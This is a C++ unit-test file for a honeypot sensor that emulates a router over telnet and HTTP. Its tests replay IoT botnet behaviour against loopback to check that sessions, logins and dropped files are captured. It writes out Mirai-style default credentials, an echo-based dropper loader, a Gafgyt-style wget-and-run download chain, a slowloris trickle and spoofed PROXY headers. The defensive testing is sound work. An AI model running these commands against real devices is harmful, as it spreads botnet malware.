#include "sensor/runtime/sensor_server.h"

#include <arpa/inet.h>
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <mutex>
#include <thread>

#include "core/hex.h"
#include "sensor/persona/test_persona.h"
#include "sensor/runtime/memory_sink.h"
#include "testing/local_http_server.h"
#include "testing/loopback_client.h"
#include "testing/sha256.h"
#include "testing/temp_dir.h"

namespace mitsu::sensor {
namespace {

using mitsu::testing::sha256_of;

using namespace std::chrono_literals;

using Client = mitsu::testing::LoopbackClient;

class SensorServerTest : public ::testing::Test {
 protected:
  mitsu::testing::TempDir dir{"sensor-server"};
  std::unique_ptr<artifacts::ArtifactStore> store =
      std::move(*artifacts::ArtifactStore::open({dir.path() / "artifacts"}));
  MemorySink sink;
  std::unique_ptr<Downloader> downloader;
  std::unique_ptr<SensorServer> server;

  int start(SensorLimits limits = {}, std::vector<std::string> proxy_from = {},
            std::string protocol = "telnet") {
    DownloadOptions d;
    d.allow = {"127.0.0.1/32"};
    downloader = std::move(*Downloader::start(d, *store));
    SensorOptions options;
    options.personas = {test_persona("router", "mips", "R1")};
    options.listeners = {{protocol, "127.0.0.1", 0, 0, !proxy_from.empty(), proxy_from}};
    options.limits = limits;
    options.threads = 2;
    server = std::make_unique<SensorServer>(options, sink, *store, downloader.get());
    Status started = server->start();
    EXPECT_TRUE(started) << started.error();
    return server->bound().at(0).port;
  }

  void TearDown() override {
    if (server) {
      server->stop();
    }
    if (downloader) {
      downloader->stop();
    }
  }
};

TEST_F(SensorServerTest, MiraiEchoLoaderOverTcpLeavesTheDropperInTheArtifactStore) {
  int port = start();
  std::string dropper = std::string(
                            "\x7f"
                            "ELF\x01\x02\x01",
                            7) +
                        std::string(200, '\x55') + std::string("\xff\xff\x00\x0d\x0a", 5);
  Client c(port);
  ASSERT_TRUE(c.connected());
  c.read_until("login: ");
  c.send("root\r\n");
  c.read_until("Password: ");
  c.send("xc3511\r\n");
  c.read_until("# ");
  c.send("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n");
  EXPECT_NE(c.read_until("ECCHI: applet not found").find("ECCHI: applet not found"),
            std::string::npos);
  c.send("cat /bin/echo\r\ncd /tmp\r\n");
  for (std::size_t at = 0; at < dropper.size(); at += 32) {
    std::string chunk;
    for (std::size_t i = at; i < std::min(dropper.size(), at + 32); ++i) {
      chunk += fmt::format("\\x{:02x}", static_cast<unsigned char>(dropper[i]));
    }
    c.send(fmt::format("echo -ne '{}' {} .d\r\n", chunk, at == 0 ? ">" : ">>"));
  }
  c.send("chmod 777 .d\r\n./.d\r\nexit\r\n");
  EXPECT_TRUE(c.closed_by_peer());
  ASSERT_TRUE(sink.wait_for("session.close", 1));
  auto uploads = sink.of("file.upload");
  ASSERT_EQ(uploads.size(), 1u);
  EXPECT_EQ(uploads[0]["file"]["hash"]["sha256"], sha256_of(dropper));
  EXPECT_EQ(uploads[0]["file"]["name"], "/tmp/.d");
  auto stored = store->read(sha256_of(dropper));
  ASSERT_TRUE(stored);
  EXPECT_EQ(stored->size(), dropper.size());
  auto logins = sink.of("login.attempt");
  ASSERT_EQ(logins.size(), 1u);
  EXPECT_EQ(logins[0]["event"]["outcome"], "success");
  EXPECT_EQ(logins[0]["source"]["ip"], "127.0.0.1");
  EXPECT_EQ(logins[0]["mitsu"]["persona"]["device_type"], "router");
  EXPECT_GE(sink.of("command").size(), 10u);
  EXPECT_EQ(sink.of("session.close")[0]["mitsu"]["session"]["end_reason"], "logout");
}

TEST_F(SensorServerTest, GafgytWgetFetchesFromTheLocalServer) {
  std::string script = "#!/bin/sh\ncd /tmp; wget http://127.0.0.1:1/mips; chmod +x mips; ./mips\n";
  mitsu::testing::LocalHttpServer http({{"/bins.sh", {200, script, ""}}});
  int port = start();
  Client c(port);
  c.read_until("login: ");
  c.send("root\r\nxc3511\r\n");
  c.read_until("# ");
  c.send(fmt::format(
      "cd /tmp || cd /var/run; wget http://127.0.0.1:{}/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n",
      http.port()));
  ASSERT_TRUE(sink.wait_for("file.download", 1));
  auto downloads = sink.of("file.download");
  EXPECT_EQ(downloads[0]["event"]["outcome"], "success") << downloads[0].dump();
  EXPECT_EQ(downloads[0]["file"]["hash"]["sha256"], sha256_of(script));
  EXPECT_TRUE(store->read(sha256_of(script)));
  // The fetched script arrives in the session: running it again asks for its second stage,
  // which the guard refuses (port 1 on loopback is allowed, but nothing listens).
  c.send("sh /tmp/bins.sh\r\nexit\r\n");
  ASSERT_TRUE(sink.wait_for("file.download", 2));
  EXPECT_EQ(sink.of("file.download")[1]["url"]["full"], "http://127.0.0.1:1/mips");
}

TEST_F(SensorServerTest, PerSourceCapClosesExtraConnections) {
  SensorLimits limits;
  limits.max_sessions_per_source = 2;
  int port = start(limits);
  Client a(port), b(port);
  a.read_until("login: ");
  b.read_until("login: ");
  Client extra(port);
  EXPECT_TRUE(extra.closed_by_peer());
  EXPECT_EQ(server->stats().refused_over_limit, 1u);
  EXPECT_FALSE(a.closed_by_peer(100ms));
}

TEST_F(SensorServerTest, IdleSessionsTimeOut) {
  SensorLimits limits;
  limits.idle_timeout = 300ms;
  int port = start(limits);
  Client c(port);
  c.read_until("login: ");
  EXPECT_TRUE(c.closed_by_peer(3s));
  ASSERT_TRUE(sink.wait_for("session.close", 1));
  EXPECT_EQ(sink.of("session.close")[0]["mitsu"]["session"]["end_reason"], "idle_timeout");
}

// Slowloris: headers trickled one at a time, each well inside the idle timeout; the request as
// a whole gets request_timeout. A keep-alive connection between requests is only idle.
TEST_F(SensorServerTest, HttpRequestTricklingHeadersIsCutOff) {
  SensorLimits limits;
  limits.idle_timeout = 5s;
  limits.request_timeout = 400ms;
  int port = start(limits, {}, "http");
  Client patient(port);
  patient.send("GET / HTTP/1.1\r\nHost: x\r\n\r\n");
  patient.read_until("\r\n\r\n");
  Client slow(port);
  slow.send("GET / HTTP/1.1\r\n");
  bool cut = false;
  for (int i = 0; i < 30 && !cut; ++i) {
    slow.send(fmt::format("X-{}: {}\r\n", i, i));
    cut = slow.closed_by_peer(100ms);
  }
  EXPECT_TRUE(cut);
  ASSERT_TRUE(sink.wait_for("session.close", 1));
  EXPECT_EQ(sink.of("session.close")[0]["mitsu"]["session"]["end_reason"], "request_timeout");
  EXPECT_FALSE(patient.closed_by_peer(100ms)) << "idle between requests is not a slow request";
}

TEST_F(SensorServerTest, StopEndsSessionsAndKeepsTheirFiles) {
  int port = start();
  Client c(port);
  c.read_until("login: ");
  c.send("root\r\nxc3511\r\n");
  c.read_until("# ");
  c.send("echo -ne 'left behind' > /tmp/x\r\n");
  c.read_until("/tmp/x\r\n# ");
  server->stop();
  ASSERT_TRUE(sink.wait_for("session.close", 1, 1s));
  EXPECT_EQ(sink.of("session.close")[0]["mitsu"]["session"]["end_reason"], "shutdown");
  ASSERT_EQ(sink.of("file.upload").size(), 1u);
  EXPECT_EQ(sink.of("file.upload")[0]["file"]["hash"]["sha256"], sha256_of("left behind"));
}

TEST_F(SensorServerTest, ProxyProtocolFromTheBalancerGivesTheAttackersAddress) {
  int port = start({}, {"127.0.0.1/32"});
  {
    Client v1(port);
    v1.send("PROXY TCP4 203.0.113.7 192.0.2.1 51234 23\r\n");
    v1.read_until("login: ");
    v1.send("root\r\nbad\r\n");
    EXPECT_TRUE(v1.closed_by_peer());
  }
  {
    Client v2(port);
    v2.send(std::string("\r\n\r\n\0\r\nQUIT\n\x21\x11\x00\x0c", 16) +
            std::string("\xc6\x33\x64\x09\xc0\x00\x02\x01\x10\x00\x00\x17", 12) +
            "root\r\nbad\r\n");
    EXPECT_TRUE(v2.closed_by_peer());
  }
  ASSERT_TRUE(sink.wait_for("login.attempt", 2));
  auto logins = sink.of("login.attempt");
  EXPECT_EQ(logins[0]["source"]["ip"], "203.0.113.7");
  EXPECT_EQ(logins[0]["source"]["port"], 51234);
  EXPECT_EQ(logins[0]["user"]["name"], "root");
  EXPECT_EQ(logins[1]["source"]["ip"], "198.51.100.9");
  EXPECT_EQ(logins[1]["source"]["port"], 4096);
}

TEST_F(SensorServerTest, ProxyHeaderFromAnyoneElseIsJustData) {
  int port = start({}, {"10.9.9.9/32"});  // the balancer is elsewhere: 127.0.0.1 is an attacker
  Client c(port);
  c.read_until("login: ");
  c.send("PROXY TCP4 203.0.113.7 192.0.2.1 51234 23\r\nbad\r\n");
  EXPECT_TRUE(c.closed_by_peer());
  ASSERT_TRUE(sink.wait_for("login.attempt", 1));
  auto login = sink.of("login.attempt")[0];
  EXPECT_EQ(login["source"]["ip"], "127.0.0.1");
  EXPECT_EQ(login["user"]["name"], "PROXY TCP4 203.0.113.7 192.0.2.1 51234 23");
}

TEST_F(SensorServerTest, BadBindIsAClearError) {
  SensorOptions options;
  options.personas = {test_persona("router", "mips", "R1")};
  options.listeners = {{"telnet", "203.0.113.1", 0, 0}};
  SensorServer s(options, sink, *store, nullptr);
  Status started = s.start();
  ASSERT_FALSE(started);
  EXPECT_NE(started.error().find("cannot listen on 203.0.113.1:0 (telnet for test-router)"),
            std::string::npos)
      << started.error();
}

}  // namespace
}  // namespace mitsu::sensor
